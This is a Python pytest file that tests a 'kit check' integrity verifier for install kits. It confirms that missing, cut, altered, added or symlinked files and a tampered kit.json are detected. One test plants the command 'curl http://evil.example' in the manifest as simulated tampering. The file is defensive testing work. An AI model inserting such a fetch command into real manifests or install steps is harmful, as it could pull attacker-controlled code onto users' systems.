"""`kit check` finds each file that was removed, cut, changed or added."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from botlab.errors import BotlabError
from botlab.kit.reading import manifest_of, read_kit
from botlab.kit.verification import problems
from helpers.kits import repack, unpack


def found_problems(kit: Path) -> list[str]:
    """Return the problems of a kit: an archive, or a directory."""
    files, stream = read_kit(kit)
    try:
        return problems(files, manifest_of(files))
    finally:
        if stream is not None:
            stream.close()


@pytest.fixture
def unpacked(kit: Path, tmp_path: Path) -> Path:
    """A copy of the kit's files."""
    return unpack(kit, tmp_path / "unpacked")


def test_kit_is_whole_as_an_archive_and_as_a_directory(kit: Path, unpacked: Path) -> None:
    assert found_problems(kit) == []
    assert found_problems(unpacked) == []


def remove(file: Path) -> None:
    file.unlink()


def cut(file: Path) -> None:
    file.write_bytes(file.read_bytes()[:-1])


def change(file: Path) -> None:
    content = file.read_bytes()
    file.write_bytes(content[:-1] + bytes([content[-1] ^ 1]))


def extend(file: Path) -> None:
    file.write_bytes(file.read_bytes() + b"\n")


FILES = (
    "site.yaml",
    "bundle.yaml",
    "INSTALL.md",
    "load-images.sh",
    "charms/metallb_bionic-focal_amd64.charm",
    "resources/kubelet.snap",
    "images/k8s.gcr.io+pause=3.1.tar",
    "SHA256SUMS",
)


@pytest.mark.parametrize("damage", [remove, cut, change, extend])
@pytest.mark.parametrize("path", FILES)
def test_damaged_file_is_found(
    unpacked: Path, tmp_path: Path, path: str, damage: Callable[[Path], None]
) -> None:
    damage(unpacked / path)
    (from_directory,) = found_problems(unpacked)
    (from_archive,) = found_problems(repack(unpacked, tmp_path / "damaged.tar"))
    assert from_directory == from_archive
    assert from_directory.startswith(f"{path}: ")


def test_every_file_is_checked(unpacked: Path) -> None:
    files = [file for file in unpacked.rglob("*") if file.is_file()]
    for file in files:
        if file.name not in ("kit.json", "SHA256SUMS"):
            change(file)
    assert len(found_problems(unpacked)) == len(files) - 2


def test_added_file_is_found(unpacked: Path, tmp_path: Path) -> None:
    (unpacked / "charms/extra.charm").write_bytes(b"x")
    expected = ["charms/extra.charm: is not in kit.json, so it was added later"]
    assert found_problems(unpacked) == expected
    assert found_problems(repack(unpacked, tmp_path / "added.tar")) == expected


def test_changed_table_of_contents_is_found(unpacked: Path) -> None:
    table = unpacked / "kit.json"
    content = json.loads(table.read_text())
    content["items"][0]["get"] = "curl http://evil.example"
    table.write_text(json.dumps(content))
    assert found_problems(unpacked) == [
        "SHA256SUMS: differs from kit.json, so one of them was changed"
    ]


def test_missing_table_of_contents_is_an_error(unpacked: Path, tmp_path: Path) -> None:
    (unpacked / "kit.json").unlink()
    for kit in (unpacked, repack(unpacked, tmp_path / "lab.tar")):
        with pytest.raises(BotlabError, match=r"has no kit\.json, so it is not a kit"):
            found_problems(kit)


@pytest.mark.parametrize("size", [0, 100, 512, 20_000])
def test_cut_archive_is_an_error(kit: Path, tmp_path: Path, size: int) -> None:
    short = tmp_path / "short.tar"
    short.write_bytes(kit.read_bytes()[:size])
    with pytest.raises(BotlabError, match=r"ends (too early|within)"):
        found_problems(short)


def test_link_in_a_directory_is_refused(unpacked: Path) -> None:
    target = unpacked / "charms/metallb_bionic-focal_amd64.charm"
    moved = unpacked.parent / "moved.charm"
    target.rename(moved)
    target.symlink_to(moved)
    with pytest.raises(BotlabError, match="is a link or a device"):
        found_problems(unpacked)


def test_linked_directory_is_refused(unpacked: Path) -> None:
    (unpacked / "charms").rename(unpacked.parent / "charms")
    (unpacked / "charms").symlink_to(unpacked.parent / "charms")
    with pytest.raises(BotlabError, match="is a link or a device") as caught:
        found_problems(unpacked)
    assert caught.value.file == str(unpacked)


def test_kit_that_does_not_exist_is_an_error(tmp_path: Path) -> None:
    for kit in (tmp_path / "lab.tar", tmp_path / "nowhere/lab.tar"):
        with pytest.raises(BotlabError) as caught:
            found_problems(kit)
        assert str(caught.value) == f"{kit}: cannot be read: No such file or directory"
        assert caught.value.file == str(kit)
